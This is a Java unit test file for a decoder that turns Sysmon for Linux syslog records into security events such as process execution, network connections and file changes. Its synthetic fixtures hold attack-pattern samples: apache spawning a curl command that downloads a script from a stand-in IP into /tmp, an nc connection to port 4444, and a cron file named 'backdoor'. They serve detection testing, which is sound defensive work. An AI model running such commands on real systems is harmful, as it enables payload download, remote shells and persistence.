package dev.vigil.decode;

import dev.vigil.model.SecurityEvent;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Test records written from Microsoft's Sysmon event schema (Sysmon for Linux writes the same XML to
 * syslog under the tag "sysmon"); no real Sysmon for Linux log file could be found to copy.
 */
class SysmonLinuxDecoderTest {
    private static final long RECEIVED = java.time.Instant.parse("2026-12-01T00:00:00Z").toEpochMilli();
    private final SysmonLinuxDecoder decoder = new SysmonLinuxDecoder(DecoderOptions.defaults());

    static String event(String host, int id, String data) {
        return "2026-11-30T10:15:02.123456+00:00 " + host + " sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
                + "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>" + id + "</EventID><Version>5</Version><Level>4</Level>"
                + "<Task>" + id + "</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
                + "<TimeCreated SystemTime=\"2026-11-30T10:15:02.120000000Z\"/><EventRecordID>4512</EventRecordID><Correlation/>"
                + "<Execution ProcessID=\"1203\" ThreadID=\"1203\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>" + host
                + "</Computer><Security UserId=\"0\"/></System><EventData>" + data + "</EventData></Event>";
    }

    static String d(String name, String value) {
        return "<Data Name=\"" + name + "\">" + value + "</Data>";
    }

    static final String PROCESS_CREATE = d("RuleName", "-") + d("UtcTime", "2026-11-30 10:15:02.118")
            + d("ProcessGuid", "{4a1c3f2e-2b5d-6567-5d1a-8c3b01000000}") + d("ProcessId", "28811") + d("Image", "/usr/bin/curl")
            + d("FileVersion", "-") + d("Description", "-") + d("Product", "-") + d("Company", "-") + d("OriginalFileName", "-")
            + d("CommandLine", "curl -s http://203.0.113.9/x.sh -o /tmp/x.sh &amp;&amp; echo &quot;ok&quot;")
            + d("CurrentDirectory", "/var/www/html") + d("User", "www-data")
            + d("LogonGuid", "{4a1c3f2e-0000-0000-2100-000000000000}") + d("LogonId", "33") + d("TerminalSessionId", "4294967295")
            + d("IntegrityLevel", "no level") + d("Hashes", "-") + d("ParentProcessGuid", "{4a1c3f2e-2b5d-6567-5d0a-8c3b01000000}")
            + d("ParentProcessId", "28790") + d("ParentImage", "/usr/sbin/apache2") + d("ParentCommandLine", "/usr/sbin/apache2 -k start")
            + d("ParentUser", "www-data");

    private CollectingOutput decode(String line) throws DecodeException {
        CollectingOutput out = new CollectingOutput();
        decoder.decode(line, RECEIVED, out);
        return out;
    }

    @Test
    void processCreateIsAProcessExecWithItsParent() throws Exception {
        CollectingOutput out = decode(event("web-01", 1, PROCESS_CREATE));
        assertThat(out.logs).isEmpty();
        SecurityEvent e = out.security.get(0);
        assertThat(e.action()).isEqualTo("process_exec");
        assertThat(e.host()).isEqualTo("web-01");
        assertThat(e.user()).isEqualTo("www-data");
        assertThat(e.time()).isEqualTo(java.time.Instant.parse("2026-11-30T10:15:02.118Z").toEpochMilli());
        assertThat(e.attributes())
                .containsEntry("process.executable", "/usr/bin/curl")
                .containsEntry("process.command_line", "curl -s http://203.0.113.9/x.sh -o /tmp/x.sh && echo \"ok\"")
                .containsEntry("process.parent.executable", "/usr/sbin/apache2")
                .containsEntry("process.parent.command_line", "/usr/sbin/apache2 -k start")
                .containsEntry("process.working_directory", "/var/www/html")
                .containsEntry("process.pid", "28811").containsEntry("process.parent.pid", "28790")
                .doesNotContainKey("rule.name");
    }

    @Test
    void networkConnectAndFileCreateMapToTheirEvents() throws Exception {
        SecurityEvent net = decode(event("db-01", 3, d("UtcTime", "2026-11-30 10:15:03.000") + d("ProcessId", "3001")
                + d("Image", "/usr/bin/nc.openbsd") + d("User", "root") + d("Protocol", "tcp") + d("Initiated", "true")
                + d("SourceIsIpv6", "false") + d("SourceIp", "10.0.0.5") + d("SourceHostname", "-") + d("SourcePort", "51234")
                + d("DestinationIsIpv6", "false") + d("DestinationIp", "198.51.100.23") + d("DestinationHostname", "-")
                + d("DestinationPort", "4444") + d("DestinationPortName", "-"))).security.get(0);
        assertThat(net.action()).isEqualTo("net_connection");
        assertThat(net.destinationIp()).isEqualTo("198.51.100.23");
        assertThat(net.destinationPort()).isEqualTo(4444);
        assertThat(net.sourcePort()).isEqualTo(51234);
        assertThat(net.attributes()).containsEntry("network.transport", "tcp").containsEntry("network.initiated", "true");

        SecurityEvent file = decode(event("db-01", 11, d("UtcTime", "2026-11-30 10:15:04.000") + d("ProcessId", "3002")
                + d("Image", "/usr/bin/cp") + d("TargetFilename", "/etc/cron.d/backdoor") + d("CreationUtcTime", "2026-11-30 10:15:04.000")
                + d("User", "root"))).security.get(0);
        assertThat(file.action()).isEqualTo("file_changed");
        assertThat(file.attributes()).containsEntry("file.path", "/etc/cron.d/backdoor");
    }

    @Test
    void otherEventsAndOrdinaryLinesAreSyslog() throws Exception {
        CollectingOutput other = decode(event("web-01", 5, d("UtcTime", "2026-11-30 10:15:05.000") + d("ProcessId", "1") + d("Image", "/usr/bin/id")));
        assertThat(other.security).isEmpty();
        assertThat(other.logs).hasSize(1);
        CollectingOutput plain = decode("2026-11-30T10:15:02+00:00 web-01 sshd[99]: Failed password for root from 198.51.100.7 port 4242 ssh2");
        assertThat(plain.logs).hasSize(1);
        assertThat(plain.security).extracting(SecurityEvent::action).containsExactly("auth_failure");
    }

    @Test
    void truncatedOrMalformedEventsNameWhatIsMissing() {
        String whole = event("web-01", 1, PROCESS_CREATE);
        assertThatThrownBy(() -> decode(whole.substring(0, whole.indexOf("</EventData>"))))
                .isInstanceOf(DecodeException.class).hasMessageContaining("EventData");
        assertThatThrownBy(() -> decode(event("web-01", 1, d("ProcessId", "1"))))
                .isInstanceOf(DecodeException.class).hasMessageContaining("'Image'");
        assertThatThrownBy(() -> decode(event("web-01", 1, d("Image", "/x &bogus; y"))))
                .isInstanceOf(DecodeException.class).hasMessageContaining("&bogus;");
    }

    @Test
    void autoReadsSysmonLinesInSyslog() throws Exception {
        RecordDecoder auto = new RecordDecoder(Decoders.create("auto", DecoderOptions.defaults()), "security", 1 << 20);
        CollectingOutput out = new CollectingOutput();
        auto.decode(event("web-01", 1, PROCESS_CREATE).getBytes(StandardCharsets.UTF_8), "t", 0, 0, RECEIVED, out);
        assertThat(out.security).extracting(SecurityEvent::action).containsExactly("process_exec");
    }

    @Test
    void aMebibyteCommandLineIsRead() throws Exception {
        String big = "x".repeat(1 << 20);
        SecurityEvent e = decode(event("web-01", 1, d("Image", "/usr/bin/echo") + d("CommandLine", big))).security.get(0);
        assertThat(e.attributes().get("process.command_line")).hasSize(1 << 20);
    }
}
